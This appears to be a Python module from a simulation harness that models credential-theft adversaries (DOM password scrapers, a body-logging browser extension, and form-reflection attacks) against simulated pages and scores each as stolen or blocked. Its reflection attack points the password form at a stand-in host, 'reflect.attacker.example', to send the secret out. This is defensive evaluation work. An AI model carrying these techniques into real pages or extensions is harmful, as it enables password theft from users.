"""Adversaries: DOM scrapers, a body-logging extension and the reflection attacker.

Each attack yields an :class:`AttackOutcome` whose verdict is decided only by
whether the real secret is among the captured values.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Iterable

from .codec import parse_form_body, url_query_contains
from .pipeline import Extension, PipelineResult, Stage, StageTrace
from .webmodel import PASSWORD_FIELDS, Form, Page, ScriptHook, install_script

REFLECT_URL = "https://reflect.attacker.example/echo"


class Verdict(str, enum.Enum):
    STOLEN = "stolen"
    BLOCKED = "blocked"


@dataclass(frozen=True)
class AttackOutcome:
    attacker: str
    captured: frozenset[str]
    verdict: Verdict

    @classmethod
    def score(cls, attacker: str, captured: Iterable[str], secret: str) -> AttackOutcome:
        captured = frozenset(captured)
        return cls(attacker, captured, Verdict.STOLEN if secret in captured else Verdict.BLOCKED)

    @property
    def stolen(self) -> bool:
        return self.verdict is Verdict.STOLEN


def _body_values(data: bytes | None) -> set[str]:
    if not data:
        return set()
    values = {data.decode("utf-8", "surrogateescape")}
    for part in parse_form_body(data).parts:
        values.update((part.name, part.value))
    return values


def _url_values(url: str) -> set[str]:
    _, _, query = url.partition("?")
    return {url} | _body_values(query.encode("utf-8", "surrogateescape"))


# -- DOM attacker -------------------------------------------------------------

@dataclass
class DomScrape:
    page: Page
    hook: ScriptHook

    def outcome(self, secret: str) -> AttackOutcome:
        captured = (o.value for o in self.page.observed_by("attacker", self.hook.name))
        return AttackOutcome.score(self.hook.name, captured, secret)


def dom_scrape_attack(page: Page, aware: bool, form: Form | None = None) -> DomScrape:
    """Install a script that reads every password field on submit.

    An unaware scraper is an ordinary submit listener; an aware one escapes
    the design 3 guard and reads after it. Score with
    :meth:`DomScrape.outcome` once the page has been submitted.
    """
    name = "aware-scraper" if aware else "scraper"
    hook = ScriptHook("attacker", name, frozenset({PASSWORD_FIELDS}), aware=aware)
    install_script(page, hook, form)
    return DomScrape(page, hook)


# -- extension attacker -------------------------------------------------------

def malicious_extension(name: str = "malicious-extension", credentials_stage: bool = False,
                        permissions: Iterable[str] = ("webRequest",)) -> Extension:
    stages = [Stage.BEFORE_REQUEST, Stage.SEND_HEADERS]
    if credentials_stage:
        stages.append(Stage.REQUEST_CREDENTIALS)
    return Extension.body_logger(name, stages, permissions)


def extension_log_attack(trace: StageTrace, extension: Extension, secret: str) -> AttackOutcome:
    """Score what ``extension`` saw during one pipeline run."""
    captured: set[str] = set()
    for rec in trace.by(extension.name):
        if rec.kind != "extension":
            continue
        if rec.snapshot is not None and "webRequest" in extension.permissions:
            captured |= _body_values(rec.snapshot)
        if rec.view is not None:
            captured.add(rec.view.url)
            captured |= _url_values(rec.view.url)
    return AttackOutcome.score(extension.name, captured, secret)


# -- reflection attacker ------------------------------------------------------

REFLECTION_MODES = ("rename-field", "redirect-url")


def reflection_attack(page: Page, mode: str, target_url: str = REFLECT_URL,
                      new_name: str = "username", form: Form | None = None) -> Page:
    """Mutate the page before submission so the secret would be reflected back.

    ``rename-field`` renames the nonce-holding password field to ``new_name``;
    ``redirect-url`` points the form at ``target_url``.
    """
    if mode not in REFLECTION_MODES:
        raise ValueError(f"unknown reflection mode {mode!r}")
    form = form or page.forms[0]

    if mode == "rename-field":
        def mutate(f: Form) -> None:
            for fld in f.fields:
                if fld.kind == "password":
                    fld.name = new_name
                    return
    else:
        def mutate(f: Form) -> None:
            f.action_url = target_url

    install_script(page, ScriptHook("attacker", f"reflect-{mode}", mutation=mutate, aware=True), form)
    return page


def wire_values(result: PipelineResult) -> set[str]:
    """Decoded values that actually left the browser (body and URL query)."""
    if result.cancelled:
        return set()
    return _body_values(result.wire) | _url_values(result.url)


def reflection_outcome(result: PipelineResult, mode: str, secret: str) -> AttackOutcome:
    return AttackOutcome.score(f"reflect-{mode}", wire_values(result), secret)


def wire_contains(result: PipelineResult, text: str) -> bool:
    """Substring test over the decoded wire body and the request URL."""
    if result.cancelled:
        return False
    body = result.wire_bytes
    if any(text in v for v in _body_values(body)):
        return True
    return url_query_contains(result.url, text)
